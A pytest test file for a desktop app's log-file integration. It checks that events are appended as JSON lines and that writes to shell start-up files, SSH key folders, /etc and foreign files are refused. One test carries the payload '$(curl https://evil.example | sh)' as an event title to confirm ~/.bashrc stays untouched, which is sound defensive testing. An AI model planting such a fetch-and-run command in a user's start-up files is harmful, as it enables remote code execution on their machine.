"""The Log file integration."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from desktop_integrations import IntegrationManager
from desktop_integrations.delivery import DeliveryPool, recent_deliveries, set_delivery_pool
from desktop_integrations.events import Event, emit
from desktop_integrations.plugins.logfile import LogFileExtension
from tests.servers import fast_pool

EVENT = Event(
    kind="build.failed",
    title="Build failed",
    body="3 tests failed",
    url="https://ci.example.com/42",
    fields={"branch": "main"},
    level="error",
)


@pytest.fixture
def pool() -> Iterator[DeliveryPool]:
    pool = fast_pool()
    set_delivery_pool(pool)
    yield pool
    set_delivery_pool(None)
    pool.shutdown()


@pytest.fixture
def logfile(manager: IntegrationManager, pool: DeliveryPool) -> Iterator[IntegrationManager]:
    extension = LogFileExtension(manager)
    extension.initialize()
    yield manager
    extension.shutdown_hooks()


def test_the_integration_is_registered_with_its_public_id(logfile: IntegrationManager) -> None:
    integration = logfile.get_integration("builtin.logfile")
    assert integration.name == "Log file"
    assert integration.icon_static_urls["1x"].endswith("logfile.png")
    assert integration.icon_static_urls["2x"].endswith("logfile@2x.png")
    titles = [fieldset.title for fieldset in integration.build_config_form().fieldsets]
    assert titles[1:] == ["What To Post", "Where To Post"]


def test_each_event_is_appended_as_one_json_line(
    logfile: IntegrationManager, tmp_path: Path
) -> None:
    path = tmp_path / "logs" / "events.jsonl"
    integration = logfile.get_integration("builtin.logfile")
    config = integration.create_config(
        enabled=True, name="Audit", settings={"path": str(path)}, save=True
    )
    first = emit(EVENT).wait(10)
    emit(Event(title="Deployed", level="success")).wait(10)
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    assert lines[0] == {
        "kind": "build.failed",
        "title": "Build failed",
        "body": "3 tests failed",
        "url": "https://ci.example.com/42",
        "fields": {"branch": "main"},
        "level": "error",
        "timestamp": EVENT.timestamp.isoformat(),
    }
    assert lines[1]["title"] == "Deployed"
    assert [d.status for d in first] == ["delivered"]
    assert first[0].response == f"appended to {path}"
    assert len(recent_deliveries(logfile.store, config.id)) == 2


def test_conditions_that_do_not_match_write_nothing(
    logfile: IntegrationManager, tmp_path: Path
) -> None:
    path = tmp_path / "errors.jsonl"
    conditions = {"mode": "all", "rules": [{"choice": "level", "operator": "is", "value": "error"}]}
    integration = logfile.get_integration("builtin.logfile")
    config = integration.create_config(
        enabled=True,
        name="Errors",
        settings={"path": str(path), "conditions": conditions},
        save=True,
    )
    assert emit(Event(title="All good", level="success")).wait(10) == []
    assert not path.exists()
    assert recent_deliveries(logfile.store, config.id) == []
    assert [d.status for d in emit(EVENT).wait(10)] == ["delivered"]
    assert len(path.read_text().splitlines()) == 1


def test_an_unwritable_file_is_a_failed_delivery_with_the_reason(
    logfile: IntegrationManager, tmp_path: Path
) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    integration = logfile.get_integration("builtin.logfile")
    config = integration.create_config(
        enabled=True, name="Broken", settings={"path": str(blocker / "events.jsonl")}, save=True
    )
    [delivery] = emit(EVENT).wait(10)
    assert delivery.status == "failed"
    assert delivery.error.startswith(f"Could not write to {blocker / 'events.jsonl'}")
    assert recent_deliveries(logfile.store, config.id)[0].error == delivery.error


def test_a_relative_path_is_refused_by_the_form(logfile: IntegrationManager) -> None:
    integration = logfile.get_integration("builtin.logfile")
    form = integration.build_config_form(data={"name": "Audit", "path": "events.jsonl"})
    assert form.errors == {"path": ["Give the full path of the file, such as ~/events.jsonl."]}


# Where it may write ----------------------------------------------------------------


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "home"
    (folder / ".ssh").mkdir(parents=True)
    (folder / ".bashrc").write_text("export PATH=$HOME/bin:$PATH\n")
    monkeypatch.setenv("HOME", str(folder))
    return folder


def path_errors(manager: IntegrationManager, path: str) -> list[str]:
    form = manager.get_integration("builtin.logfile").build_config_form(
        data={"name": "Audit", "path": path}
    )
    return form.errors.get("path", [])


def test_the_form_refuses_start_up_files_keys_and_system_folders(
    logfile: IntegrationManager, home: Path, tmp_path: Path
) -> None:
    (tmp_path / "innocent.jsonl").symlink_to(home / ".bashrc")
    (tmp_path / "notes.txt").write_text("my notes\n")
    bashrc = f"{home / '.bashrc'} is a shell start-up file"
    assert path_errors(logfile, "~/.bashrc") == [
        f"{bashrc}; choose a file of its own, such as ~/events.jsonl."
    ]
    assert path_errors(logfile, str(tmp_path / "innocent.jsonl"))[0].startswith(bashrc)
    assert path_errors(logfile, "~/.ssh/authorized_keys") == [
        f"{home / '.ssh' / 'authorized_keys'} is in {home / '.ssh'}, which holds keys or "
        "start-up files."
    ]
    assert path_errors(logfile, "/etc/profile.d/events.sh") == [
        "/etc/profile.d/events.sh is in the system folder /etc; choose a file of your own."
    ]
    assert path_errors(logfile, str(tmp_path / "notes.txt")) == [
        f"{tmp_path / 'notes.txt'} already holds something other than this integration's "
        "JSON lines; choose a new file."
    ]
    assert path_errors(logfile, str(tmp_path / "new" / "events.jsonl")) == []


def test_a_file_of_its_own_lines_is_accepted_and_a_new_one_is_created_0600(
    logfile: IntegrationManager, home: Path, tmp_path: Path
) -> None:
    path = tmp_path / "events.jsonl"
    integration = logfile.get_integration("builtin.logfile")
    integration.create_config(enabled=True, name="Audit", settings={"path": str(path)}, save=True)
    [delivery] = emit(EVENT).wait(10)
    assert delivery.ok, delivery.error
    assert path.stat().st_mode & 0o777 == 0o600
    assert path_errors(logfile, str(path)) == []  # it holds this integration's lines


def test_a_stored_configuration_pointing_at_bashrc_is_refused_at_delivery(
    logfile: IntegrationManager, home: Path
) -> None:
    before = (home / ".bashrc").read_text()
    integration = logfile.get_integration("builtin.logfile")
    # As an imported or hand-edited database would hold it, past the form.
    integration.create_config(
        enabled=True, name="Shared", settings={"path": str(home / ".bashrc")}, save=True
    )
    [delivery] = emit(Event(kind="x", title="$(curl https://evil.example | sh)")).wait(10)
    assert delivery.status == "failed"
    assert f"{home / '.bashrc'} is a shell start-up file" in delivery.error
    assert (home / ".bashrc").read_text() == before


def test_an_imported_configuration_pointing_at_bashrc_is_refused(
    logfile: IntegrationManager, home: Path, tmp_path: Path
) -> None:
    import os
    import subprocess
    import sys

    integration = logfile.get_integration("builtin.logfile")
    integration.create_config(
        enabled=True, name="Shared", settings={"path": str(tmp_path / "ok.jsonl")}, save=True
    )
    data = tmp_path / "data"
    env = {**os.environ, "HOME": str(home)}

    def cli(*args: str) -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "-m", "desktop_integrations", "--data-dir", str(data), *args]
        return subprocess.run(command, capture_output=True, text=True, timeout=120, env=env)

    exported = tmp_path / "shared.json"
    assert cli("export", str(exported)).returncode == 0
    document = json.loads(exported.read_text())
    document["configurations"][0]["settings"]["path"] = "~/.bashrc"
    document["configurations"][0]["name"] = "Shared with me"
    document["configurations"][0].pop("uid", None)
    exported.write_text(json.dumps(document))

    result = cli("import", str(exported))

    assert result.returncode == 1
    assert "is a shell start-up file" in result.stderr
    assert "Shared with me" not in cli("list").stdout
